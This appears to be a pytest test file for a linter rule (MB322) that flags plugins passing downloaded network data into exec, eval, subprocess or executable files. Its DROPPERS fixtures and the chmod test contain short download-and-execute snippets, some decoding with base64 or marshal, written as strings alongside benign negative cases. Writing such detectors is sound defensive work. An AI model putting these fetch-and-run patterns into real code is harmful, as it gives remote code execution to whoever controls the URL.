"""MB322: network data followed within a function to code execution, subprocesses and exec bits."""

from __future__ import annotations

from pathlib import Path

import pytest

from helpers import run, write_plugin
from mbcheck.config import Config


def findings(tmp_path: Path, source: str) -> list[tuple[int, str]]:
    """(line, message) of every MB322 finding on a plugin whose ``__init__.py`` is ``source``."""
    root = write_plugin(tmp_path, {"__init__.py": source, "plugin.yaml": "name: demo\nversion: 1.0.0\n"})
    report = run(root, Config(select=("MB322",)))
    assert not report.errors, report.errors
    return sorted((f.span.line, f.message) for p in report.plugins for f in p.findings if f.rule == "MB322")


DROPPERS = {
    "aliased urlopen, read then decode": (
        "import urllib.request as ur\n\ndef go(u):\n    r = ur.urlopen(u)\n    body = r.read().decode()\n"
        "    exec(body)\n", 6, 4),
    "requests text through an f-string into os.system": (
        "from os import system\nfrom requests import get\n\ndef go(u):\n    cmd = get(u).text\n"
        "    system(f'{cmd} --quiet')\n", 6, 5),
    "session response compiled": (
        "import requests\n\ndef go(u):\n    s = requests.Session()\n    code = s.get(u).content\n"
        "    compile(code, 'x', 'exec')\n", 6, 5),
    "with urlopen as response, marshal then exec": (
        "import marshal\nfrom urllib.request import urlopen\n\ndef go(u):\n    with urlopen(u) as resp:\n"
        "        blob = resp.read()\n    exec(marshal.loads(blob))\n", 7, 5),
    "written with open().write then run_path": (
        "import runpy\nimport httpx\n\ndef go(u, p):\n    data = httpx.get(u).content\n"
        "    open(p, 'wb').write(data)\n    runpy.run_path(p)\n", 7, 5),
    "Path.write_bytes then subprocess": (
        "import subprocess\nfrom pathlib import Path\nimport requests\n\ndef go(u):\n    p = Path('/tmp/x')\n"
        "    p.write_bytes(requests.get(u).content)\n    subprocess.Popen([str(p)])\n", 8, 7),
    "urlretrieve result loaded by importlib": (
        "import importlib.util\nfrom urllib.request import urlretrieve\n\ndef go(u):\n"
        "    path, _ = urlretrieve(u)\n    spec = importlib.util.spec_from_file_location('m', path)\n", 6, 5),
    "module level, base64 then eval": (
        "import base64, urllib.request\nDATA = urllib.request.urlopen('https://e.org').read()\n"
        "eval(base64.b64decode(DATA))\n", 3, 2),
}


@pytest.mark.parametrize("name", list(DROPPERS))
def test_dropper_is_reported_at_the_sink_naming_the_source(tmp_path: Path, name: str) -> None:
    source, sink, origin = DROPPERS[name]
    found = findings(tmp_path, source)
    assert [line for line, _ in found] == [sink], found
    assert f"line {origin}" in found[0][1]


def test_chmod_then_run_reports_both_steps(tmp_path: Path) -> None:
    source = ("import os\nimport subprocess\nfrom urllib.request import urlretrieve\n\ndef go(u, p):\n"
              "    urlretrieve(u, p)\n    os.chmod(p, 0o755)\n    subprocess.run([p])\n")
    found = findings(tmp_path, source)
    assert [line for line, _ in found] == [7, 8]
    assert "made executable" in found[0][1] and "line 6" in found[0][1]
    assert "subprocess.run" in found[1][1] or "run" in found[1][1]


HONEST = {
    "hash the download and save it": (
        "import hashlib, requests\n\ndef fetch(u, p):\n    data = requests.get(u, timeout=5).content\n"
        "    print(hashlib.sha256(data).hexdigest())\n    with open(p, 'wb') as f:\n        f.write(data)\n"),
    "read a field of a JSON reply": (
        "import requests\n\ndef version(u):\n    return requests.get(u, timeout=5).json()['version']\n"),
    "status code decides a subprocess": (
        "import subprocess, requests\n\ndef go(u):\n    if requests.get(u, timeout=5).status_code == 200:\n"
        "        subprocess.run(['git', 'pull'])\n"),
    "downloaded file chmod without exec bit": (
        "import os\nfrom urllib.request import urlretrieve\n\ndef go(u, p):\n    urlretrieve(u, p)\n"
        "    os.chmod(p, 0o644)\n"),
    "exec of a local file": (
        "def go(p):\n    with open(p) as f:\n        exec(f.read())\n"),
    "name rebound to a constant before exec": (
        "import requests\n\ndef go(u):\n    code = requests.get(u).text\n    code = 'print(1)'\n    exec(code)\n"),
    "download in one function, exec of a same-named local in another": (
        "import requests\n\ndef a(u):\n    code = requests.get(u).text\n    return code\n\n"
        "def b(code):\n    exec(code)\n"),
    "a method named exec on the reply": (
        "import requests\n\ndef go(u, db):\n    db.exec(requests.get(u).text)\n"),
}


@pytest.mark.parametrize("name", list(HONEST))
def test_honest_use_is_not_reported(tmp_path: Path, name: str) -> None:
    assert findings(tmp_path, HONEST[name]) == []
